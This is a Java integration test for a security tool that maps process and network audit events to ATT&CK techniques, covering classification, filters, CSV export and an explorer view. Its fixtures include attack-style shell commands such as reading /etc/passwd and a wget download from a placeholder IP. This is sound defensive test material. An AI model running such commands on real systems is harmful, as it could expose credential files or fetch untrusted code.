package io.ward.event.classify;

import static io.ward.event.Api.asAdmin;
import static io.ward.event.Api.processAudit;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.ward.event.Api;
import io.ward.event.Classified;
import io.ward.event.WardStack;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Stored audits classified by the real attack-mapper: stored techniques, tactic/technique filters, the explorer. */
@QuarkusTest
@QuarkusTestResource(value = WardStack.class, restrictToAnnotatedClass = false)
class ClassificationTest {

    private static final String PATH = "/api/v1/audits/app-embedded";
    private static final Duration CLASSIFIED_WITHIN = Duration.ofSeconds(60);
    private static final List<String> TACTICS = List.of("reconnaissance", "resource-development", "initial-access",
            "execution", "persistence", "privilege-escalation", "stealth", "defense-impairment", "credential-access",
            "discovery", "lateral-movement", "collection", "command-and-control", "exfiltration", "impact");
    private static final List<String> TACTIC_NAMES = List.of("Reconnaissance", "Resource Development", "Initial Access",
            "Execution", "Persistence", "Privilege Escalation", "Stealth", "Defense Impairment", "Credential Access",
            "Discovery", "Lateral Movement", "Collection", "Command and Control", "Exfiltration", "Impact");

    @Test
    void theSeedAttackIsStoredWithAttackMappersTechniquesUnderExecution() throws InterruptedException {
        String app = Api.newAppId("seed");
        Map<String, Object> audit = processAudit(app, Api.now().minusSeconds(5), "/bin/sh -c ls");
        asAdmin().body(List.of(audit)).post(PATH).then().statusCode(200);
        JsonNode stored = Classified.awaitAll(app, 1, CLASSIFIED_WITHIN).get(0);

        // What attack-mapper answers for the same audit when asked directly is exactly what was stored.
        JsonNode direct = Api.tree(Api.as(Api.auditorToken()).baseUri(Api.config("ward.attack-mapper.url"))
                .body(List.of(audit)).post("/api/v1/attack/classify").then().statusCode(200).extract().asString());
        ObjectNode expected = (ObjectNode) Api.tree(audit);
        expected.set("attack", direct.get(0).get("attack"));
        ObjectNode actual = ((ObjectNode) stored).deepCopy();
        actual.remove("receivedAt");
        assertEquals(expected, actual);
        assertEquals("execution", stored.get("attack").get(0).get("tactic").asText(), "the seed's check");
        assertEquals("T1059.004", stored.get("attack").get(0).get("techniqueId").asText());
    }

    @Test
    void aRawSocketAuditIsStoredAsPostedAndClassifiedAsNonApplicationLayerProtocol() throws InterruptedException {
        String app = Api.newAppId("raw");
        Map<String, Object> ipv4 = rawSocketAudit(app, Api.now().minusSeconds(2), "0.0.0.0");
        Map<String, Object> ipv6 = rawSocketAudit(app, Api.now().minusSeconds(1), "::");
        asAdmin().body(List.of(ipv4, ipv6)).post(PATH).then().statusCode(200);
        List<JsonNode> stored = Classified.awaitAll(app, 2, CLASSIFIED_WITHIN);

        JsonNode t1095 = Api.tree("""
                [{"tactic":"command-and-control","techniqueId":"T1095","techniqueName":"Non-Application Layer Protocol"}]""");
        List<Map<String, Object>> newestFirst = List.of(ipv6, ipv4);
        for (int i = 0; i < 2; i++) {
            ObjectNode expected = (ObjectNode) Api.tree(newestFirst.get(i));
            expected.set("attack", t1095);
            ObjectNode actual = ((ObjectNode) stored.get(i)).deepCopy();
            actual.remove("receivedAt");
            assertEquals(expected, actual);
        }
        String csv = asAdmin().accept("text/csv").queryParam("appId", app).get(PATH).then().statusCode(200)
                .extract().asString();
        String[] rows = csv.split("\r\n");
        assertEquals(3, rows.length, csv);
        assertTrue(rows[1].contains(",outbound raw [::]:0,,command-and-control,T1095,"), rows[1]);
        assertTrue(rows[2].contains(",outbound raw 0.0.0.0:0,,command-and-control,T1095,"), rows[2]);
    }

    /** The defender's audit of an app opening a raw (here: packet) socket under a rule restricting outbound traffic. */
    private static Map<String, Object> rawSocketAudit(String app, Instant time, String unspecifiedIp) {
        Map<String, Object> audit = processAudit(app, time, "python3 app.py");
        Map<String, Object> process = new LinkedHashMap<>();
        process.put("path", "/usr/bin/python3.11");
        process.put("command", "python3 app.py");
        process.put("pid", 42);
        process.put("ppid", 1);
        process.put("parentPath", "/usr/bin/ward-defender");
        process.put("user", "root");
        process.put("uid", 0);
        audit.put("type", "network");
        audit.put("effect", "prevent");
        audit.put("reason", "outbound");
        audit.put("ruleName", "N");
        audit.put("ruleRevision", 9);
        audit.put("message", "/usr/bin/python3.11 opened a raw socket (packet), which can send to any address past the"
                + " outbound lists of rule N.");
        audit.put("process", process);
        audit.put("network", Map.of("direction", "outbound", "protocol", "raw", "ip", unspecifiedIp, "port", 0));
        return audit;
    }

    @Test
    void tacticAndTechniqueFiltersUseTheStoredClassification() throws InterruptedException {
        String app = Api.newAppId("filter");
        Instant t = Api.now().minusSeconds(60);
        List<Map<String, Object>> audits = List.of(
                processAudit(app, t, "/bin/sh -c ls"),
                processAudit(app, t.plusSeconds(1), "/bin/sh -c cat /etc/passwd"),
                processAudit(app, t.plusSeconds(2), "/bin/sh -c whoami"),
                processAudit(app, t.plusSeconds(3), "/bin/sh -c crontab -l"));
        asAdmin().body(audits).post(PATH).then().statusCode(200);
        List<JsonNode> stored = Classified.awaitAll(app, audits.size(), CLASSIFIED_WITHIN);

        Set<String> tactics = new LinkedHashSet<>();
        Set<String> techniques = new LinkedHashSet<>();
        stored.forEach(a -> a.get("attack").forEach(x -> {
            tactics.add(x.get("tactic").asText());
            techniques.add(x.get("techniqueId").asText());
        }));
        assertTrue(tactics.contains("execution") && tactics.contains("discovery"), "tactics " + tactics);
        for (String tactic : tactics) {
            assertFiltered(app, "tactic", tactic, stored, "tactic");
        }
        for (String technique : techniques) {
            assertFiltered(app, "techniqueId", technique, stored, "techniqueId");
        }
        assertFiltered(app, "tactic", "Execution", stored, "tactic");
        // Both filters: the technique drives, the tactic must match too.
        String shell = Api.tree(asAdmin().queryParam("appId", app).queryParam("techniqueId", "T1059.004").get(PATH)
                .then().statusCode(200).extract().asString()).get("items").toString();
        assertEquals(shell, Api.tree(asAdmin().queryParam("appId", app).queryParam("techniqueId", "t1059.004")
                .queryParam("tactic", "execution").get(PATH).then().statusCode(200).extract().asString()).get("items").toString());
        assertEquals(0, Api.tree(asAdmin().queryParam("appId", app).queryParam("techniqueId", "T1059.004")
                .queryParam("tactic", "impact").get(PATH).then().statusCode(200).extract().asString()).get("items").size());
        assertEquals(0, Api.tree(asAdmin().queryParam("appId", app).queryParam("techniqueId", "T1496")
                .get(PATH).then().statusCode(200).extract().asString()).get("items").size());
    }

    @Test
    void theExplorerCountsAuditsPerTacticAndTechniqueOverAnyRange() throws InterruptedException {
        String app = Api.newAppId("explorer");
        Instant base = Api.now().truncatedTo(ChronoUnit.HOURS).minus(4, ChronoUnit.HOURS);
        List<Map<String, Object>> audits = List.of(
                processAudit(app, base.plus(10, ChronoUnit.MINUTES), "/bin/sh -c ls"),
                processAudit(app, base.plus(70, ChronoUnit.MINUTES), "/bin/sh -c ls -la /"),
                processAudit(app, base.plus(75, ChronoUnit.MINUTES), "/bin/sh -c cat /etc/passwd"),
                processAudit(app, base.plus(130, ChronoUnit.MINUTES), "/bin/sh -c id"),
                processAudit(app, base.plus(131, ChronoUnit.MINUTES), "/bin/sh -c ls"),
                processAudit(app, base.plus(190, ChronoUnit.MINUTES), "/bin/sh -c wget http://203.0.113.9/x"),
                processAudit(app, base.plus(200, ChronoUnit.MINUTES), "/usr/local/bin/python3.9 app.py"));
        asAdmin().body(audits).post(PATH).then().statusCode(200);
        List<JsonNode> stored = Classified.awaitAll(app, audits.size(), CLASSIFIED_WITHIN);

        // Whole hours, partial hours at both ends, and a range inside one hour.
        assertExplorer(app, stored, base, base.plus(4, ChronoUnit.HOURS));
        assertExplorer(app, stored, base.plus(30, ChronoUnit.MINUTES), base.plus(140, ChronoUnit.MINUTES));
        assertExplorer(app, stored, base.plus(65, ChronoUnit.MINUTES), base.plus(72, ChronoUnit.MINUTES));
        assertExplorer(app, stored, base.plus(60, ChronoUnit.MINUTES), base.plus(180, ChronoUnit.MINUTES));

        // Without appId the explorer sums the all-apps counts; ten days ago only this test's audits exist.
        String quiet = Api.newAppId("explorer");
        Instant tenDaysAgo = base.minus(10, ChronoUnit.DAYS);
        asAdmin().body(List.of(processAudit(quiet, tenDaysAgo.plus(5, ChronoUnit.MINUTES), "/bin/sh -c ls"),
                processAudit(quiet, tenDaysAgo.plus(65, ChronoUnit.MINUTES), "/bin/sh -c cat /etc/passwd"),
                processAudit(quiet, tenDaysAgo.plus(185, ChronoUnit.MINUTES), "/bin/sh -c id"))).post(PATH)
                .then().statusCode(200);
        List<JsonNode> quietStored = Classified.awaitAll(quiet, 3, CLASSIFIED_WITHIN);
        assertExplorer(null, quietStored, tenDaysAgo, tenDaysAgo.plus(4, ChronoUnit.HOURS));
        assertExplorer(null, quietStored, tenDaysAgo.plus(30, ChronoUnit.MINUTES), tenDaysAgo.plus(3, ChronoUnit.HOURS));

        JsonNode all = explorer(app, base, base.plus(4, ChronoUnit.HOURS));
        assertTrue(all.get("tactics").get(3).get("count").asLong() >= 3, "the seed's ls attacks count under Execution");
        JsonNode none = explorer(Api.newAppId("nobody"), base, base.plus(4, ChronoUnit.HOURS));
        none.get("tactics").forEach(t -> assertEquals(0, t.get("count").asLong()));
    }

    private static JsonNode explorer(String app, Instant from, Instant to) {
        var request = Api.as(Api.auditorToken()).queryParam("from", from.toString()).queryParam("to", to.toString());
        if (app != null) {
            request.queryParam("appId", app);
        }
        return Api.tree(request.get("/api/v1/attack/explorer").then().statusCode(200).extract().asString());
    }

    /**
     * The explorer's answer (for {@code app}, or all apps when null) equals the counts computed here from
     * {@code stored} in [from, to).
     */
    private static void assertExplorer(String app, List<JsonNode> stored, Instant from, Instant to) {
        Map<String, Set<String>> auditsPerTactic = new LinkedHashMap<>();
        Map<String, Map<String, List<String>>> techniques = new LinkedHashMap<>();
        Map<String, String> names = new LinkedHashMap<>();
        for (JsonNode audit : stored) {
            Instant time = Instant.parse(audit.get("time").asText());
            if (time.isBefore(from) || !time.isBefore(to)) {
                continue;
            }
            for (JsonNode x : audit.get("attack")) {
                String tactic = x.get("tactic").asText();
                String technique = x.get("techniqueId").asText();
                auditsPerTactic.computeIfAbsent(tactic, k -> new LinkedHashSet<>()).add(audit.get("id").asText());
                techniques.computeIfAbsent(tactic, k -> new LinkedHashMap<>())
                        .computeIfAbsent(technique, k -> new ArrayList<>()).add(audit.get("id").asText());
                names.put(technique, x.get("techniqueName").asText());
            }
        }
        ArrayNode tactics = Api.JSON.createArrayNode();
        for (int i = 0; i < TACTICS.size(); i++) {
            String id = TACTICS.get(i);
            ObjectNode tactic = tactics.addObject().put("id", id).put("name", TACTIC_NAMES.get(i))
                    .put("count", auditsPerTactic.getOrDefault(id, Set.of()).size());
            ArrayNode list = tactic.putArray("techniques");
            techniques.getOrDefault(id, Map.of()).entrySet().stream()
                    .sorted(Comparator.<Map.Entry<String, List<String>>>comparingInt(e -> -e.getValue().size())
                            .thenComparing(Map.Entry::getKey))
                    .forEach(e -> list.addObject().put("id", e.getKey()).put("name", names.get(e.getKey()))
                            .put("count", e.getValue().size()));
        }
        ObjectNode expected = Api.JSON.createObjectNode();
        expected.set("tactics", tactics);
        assertEquals(expected, explorer(app, from, to), "explorer over [" + from + ", " + to + ")");
    }

    private static void assertFiltered(String app, String param, String value, List<JsonNode> stored, String field) {
        List<String> expected = new ArrayList<>();
        for (JsonNode audit : stored) {
            for (JsonNode x : audit.get("attack")) {
                if (x.get(field).asText().equalsIgnoreCase(value)) {
                    expected.add(audit.get("id").asText());
                    break;
                }
            }
        }
        List<String> actual = new ArrayList<>();
        Api.tree(asAdmin().queryParam("appId", app).queryParam(param, value).get(PATH).then().statusCode(200)
                .extract().asString()).get("items").forEach(i -> actual.add(i.get("id").asText()));
        assertEquals(expected, actual, param + "=" + value);
        assertFalse(actual.isEmpty(), param + "=" + value);
    }
}
